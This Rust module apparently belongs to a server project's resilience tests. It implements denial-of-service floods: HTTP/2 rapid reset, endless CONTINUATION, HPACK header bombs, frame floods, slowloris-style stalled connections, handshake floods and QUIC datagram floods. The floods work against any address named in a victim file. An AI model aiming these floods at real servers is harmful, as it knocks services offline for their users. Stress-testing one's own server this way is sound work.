//! The floods themselves; each goes on until its process is ended, a minute at most.

use std::error::Error;
use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;

use rustls::ClientConfig;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream, UdpSocket};
use tokio::task::JoinSet;
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;
use vouchsafe_runtime::tls::{self, ServerTrust};

use crate::ours::Ours;

type Result<T> = std::result::Result<T, Box<dyn Error + Send + Sync>>;

/// A flood.
pub(crate) struct Flood {
    pub(crate) name: &'static str,
    /// What it is, for people.
    pub(crate) words: &'static str,
    kind: Kind,
}

#[derive(Debug, Clone, Copy)]
enum Kind {
    /// Frames on a connection of HTTP/2: before, again and again.
    Frames(fn(&Victim) -> Vec<u8>, fn(&Victim, u32) -> Vec<u8>),
    /// Connections that send this and then nothing, and are opened anew when they are closed.
    Silent(&'static [u8]),
    /// A whole handshake, and then nothing or the head of a request that never ends.
    Stalled(&'static [u8]),
    /// Handshakes, and nothing else.
    Handshakes,
    /// Requests of strangers.
    Requests,
    /// Datagrams that look like the first of a QUIC connection.
    Datagrams,
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const UNKNOWN: u8 = 0xbe;
const END_HEADERS: u8 = 4;

/// Connections of a flood of frames, handshakes or requests.
const AT_ONCE: u8 = 4;
/// Connections of a flood that is silent.
const SILENT: usize = 400;
/// The first bytes of a handshake.
const HALF: &[u8] = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";

/// All floods.
pub(crate) const FLOODS: &[Flood] = &[
    Flood { name: "ping", words: "PING frames", kind: Kind::Frames(opened, |_, _| frame(PING, 0, 0, &[0; 8])) },
    Flood {
        name: "settings",
        words: "SETTINGS frames",
        kind: Kind::Frames(opened, |_, _| frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0])),
    },
    Flood {
        name: "priority",
        words: "PRIORITY frames",
        kind: Kind::Frames(opened, |_, _| frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 1])),
    },
    Flood {
        name: "window",
        words: "WINDOW_UPDATE frames",
        kind: Kind::Frames(opened, |_, _| frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])),
    },
    Flood { name: "data", words: "empty DATA frames", kind: Kind::Frames(opened, |_, _| frame(DATA, 0, 1, &[])) },
    Flood {
        name: "unknown",
        words: "frames of an unknown kind",
        kind: Kind::Frames(opened, |_, _| frame(UNKNOWN, 0, 0, &[7])),
    },
    Flood {
        name: "continuation",
        words: "CONTINUATION without end",
        kind: Kind::Frames(
            |victim| head(victim, 1, 0),
            |_, _| frame(CONTINUATION, 0, 1, &hpack(&[("x-more", "and more")])),
        ),
    },
    Flood {
        name: "reset",
        words: "rapid reset",
        kind: Kind::Frames(
            |_| Vec::new(),
            |victim, at| [head(victim, at * 2 + 1, 5), frame(RST_STREAM, 0, at * 2 + 1, &[0, 0, 0, 8])].concat(),
        ),
    },
    Flood {
        name: "forced",
        words: "resets forced on the server",
        kind: Kind::Frames(
            |_| Vec::new(),
            |victim, at| {
                let stream = at * 2 + 1;
                [head(victim, stream, END_HEADERS), frame(WINDOW_UPDATE, 0, stream, &[0; 4])].concat()
            },
        ),
    },
    Flood { name: "bomb", words: "header bombs", kind: Kind::Frames(|_| Vec::new(), |_, _| bomb()) },
    Flood { name: "silent", words: "400 connections without a handshake", kind: Kind::Silent(b"") },
    Flood { name: "half", words: "400 connections with half a handshake", kind: Kind::Silent(HALF) },
    Flood { name: "idle", words: "400 connections without a request", kind: Kind::Stalled(b"") },
    Flood { name: "slow", words: "400 heads that don't end", kind: Kind::Stalled(b"GET / HTTP/1.1\r\nX: ") },
    Flood { name: "handshakes", words: "handshakes, and nothing more", kind: Kind::Handshakes },
    Flood { name: "requests", words: "requests of strangers", kind: Kind::Requests },
    Flood { name: "datagrams", words: "first datagrams of QUIC", kind: Kind::Datagrams },
];

/// Whom it is for.
#[derive(Clone)]
pub(crate) struct Victim {
    address: SocketAddr,
    sign_in: String,
    authority: String,
    root: String,
}

impl Victim {
    pub(crate) fn of(ours: &Ours) -> std::result::Result<Self, Box<dyn Error>> {
        Ok(Self {
            address: ours.address(),
            sign_in: format!("auth.{}", ours.domain),
            authority: ours.authority("auth"),
            root: ours.root_pem.clone(),
        })
    }

    pub(crate) fn to_json(&self) -> Value {
        json!({"address": self.address.to_string(), "sign_in": self.sign_in, "authority": self.authority, "root": self.root})
    }

    fn read(file: &str) -> Result<Self> {
        let given: Value = serde_json::from_slice(&std::fs::read(file)?)?;
        let text = |name: &str| given.get(name).and_then(Value::as_str).unwrap_or_default().to_owned();
        Ok(Self {
            address: text("address").parse()?,
            sign_in: text("sign_in"),
            authority: text("authority"),
            root: text("root"),
        })
    }

    fn tls(&self, alpn: &[u8]) -> Result<Arc<ClientConfig>> {
        Ok(Arc::new(tls::client(ServerTrust::Roots(tls::roots(&self.root, "flood")?), None, &[alpn])?))
    }

    async fn tcp(&self, from: Ipv4Addr) -> Result<TcpStream> {
        let socket = TcpSocket::new_v4()?;
        socket.bind((from, 0).into())?;
        Ok(socket.connect(self.address).await?)
    }

    async fn stream(&self, from: Ipv4Addr, tls: &Arc<ClientConfig>) -> Result<TlsStream<TcpStream>> {
        let name = self.sign_in.clone().try_into()?;
        Ok(TlsConnector::from(Arc::clone(tls)).connect(name, self.tcp(from).await?).await?)
    }
}

/// Runs a flood.
pub(crate) fn run(arguments: &[String]) -> std::result::Result<(), Box<dyn Error>> {
    let [name, victim] = arguments else { return Err("a flood and its victim are needed".into()) };
    let flood = FLOODS.iter().find(|flood| flood.name == name).ok_or("no such flood")?;
    let kind = flood.kind;
    let victim = Victim::read(victim).map_err(|error| error.to_string())?;
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
    runtime.block_on(async {
        let mut workers = JoinSet::new();
        let count = match kind {
            Kind::Silent(_) | Kind::Stalled(_) => SILENT,
            Kind::Frames(..) | Kind::Handshakes | Kind::Requests | Kind::Datagrams => AT_ONCE.into(),
        };
        for number in 0..count {
            let victim = victim.clone();
            // From several addresses, so that it is not a limit for each that holds it back.
            let from = Ipv4Addr::new(127, 0, 9, u8::try_from(1 + number % 8).unwrap_or(1));
            workers.spawn(async move {
                loop {
                    // Refusals and closed connections are what it is after.
                    let _ = once(&victim, kind, from).await;
                    tokio::task::yield_now().await;
                }
            });
        }
        let _ = tokio::time::timeout(Duration::from_secs(60), workers.join_next()).await;
    });
    Ok(())
}

async fn once(victim: &Victim, kind: Kind, from: Ipv4Addr) -> Result<()> {
    match kind {
        Kind::Frames(first, piece) => {
            let stream = victim.stream(from, &victim.tls(b"h2")?).await?;
            let (mut read, mut write) = tokio::io::split(stream);
            let reading = async {
                let mut sink = vec![0; 64 * 1024];
                while let Ok(1..) = read.read(&mut sink).await {}
            };
            let writing = async {
                write.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[]), &first(victim)].concat()).await?;
                for sent in 0_u32.. {
                    let batch: Vec<u8> = (0..50).flat_map(|at| piece(victim, sent * 50 + at)).collect();
                    write.write_all(&batch).await?;
                }
                Ok::<_, std::io::Error>(())
            };
            tokio::select! {
                () = reading => Ok(()),
                written = writing => Ok(written?),
            }
        }
        Kind::Silent(bytes) => {
            let mut stream = victim.tcp(from).await?;
            stream.write_all(bytes).await?;
            while stream.read(&mut [0; 1_024]).await? > 0 {}
            Ok(())
        }
        Kind::Stalled(bytes) => {
            let mut stream = victim.stream(from, &victim.tls(b"http/1.1")?).await?;
            stream.write_all(bytes).await?;
            while stream.read(&mut [0; 1_024]).await? > 0 {}
            Ok(())
        }
        Kind::Handshakes => victim.stream(from, &victim.tls(b"http/1.1")?).await.map(drop),
        Kind::Requests => {
            let mut stream = victim.stream(from, &victim.tls(b"http/1.1")?).await?;
            let request = format!("GET /nothing HTTP/1.1\r\nHost: {}\r\n\r\n", victim.authority).repeat(16);
            let mut sink = vec![0; 64 * 1024];
            loop {
                stream.write_all(request.as_bytes()).await?;
                if stream.read(&mut sink).await? == 0 {
                    return Ok(());
                }
            }
        }
        Kind::Datagrams => {
            let socket = UdpSocket::bind((from, 0)).await?;
            let mut datagram = vec![0x5a; 1_200];
            for number in 0_u64.. {
                // A long header, version 1, and two connection ids of eight bytes.
                let head = [&[0xc3, 0, 0, 0, 1, 8][..], &number.to_be_bytes(), &[8], &number.to_le_bytes()].concat();
                if let Some(start) = datagram.get_mut(..head.len()) {
                    start.copy_from_slice(&head);
                }
                let _ = socket.send_to(&datagram, victim.address).await;
            }
            Ok(())
        }
    }
}

/// A stream that is open.
fn opened(victim: &Victim) -> Vec<u8> {
    head(victim, 1, END_HEADERS)
}

fn head(victim: &Victim, stream: u32, flags: u8) -> Vec<u8> {
    let fields =
        [(":method", "POST"), (":scheme", "https"), (":authority", victim.authority.as_str()), (":path", "/flood")];
    frame(HEADERS, flags, stream, &hpack(&fields))
}

/// A field of 4,000 bytes that is put into the table once, and named by one byte ever after.
fn bomb() -> Vec<u8> {
    let mut block = hpack(&[(":method", "GET"), (":scheme", "https"), (":authority", "x"), (":path", "/")]);
    block.push(0x40);
    block.extend([1, b'x', 0x7f, 0xa1, 0x1e]);
    block.extend([b'y'; 4_000]);
    block.extend([0xbe; 11_000]);
    frame(HEADERS, 5, 1, &block)
}

/// One frame (RFC 9113 §4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let mut out = length.get(1..).unwrap_or_default().to_vec();
    out.extend([kind, flags]);
    out.extend(stream.to_be_bytes());
    out.extend(payload);
    out
}

/// Fields as literals without a place in the table (RFC 7541 §6.2.2); all are shorter than 127 bytes.
fn hpack(fields: &[(&str, &str)]) -> Vec<u8> {
    let mut out = Vec::new();
    for (name, value) in fields {
        out.push(0);
        for text in [name, value] {
            out.push(u8::try_from(text.len().min(126)).unwrap_or_default());
            out.extend(text.bytes().take(126));
        }
    }
    out
}
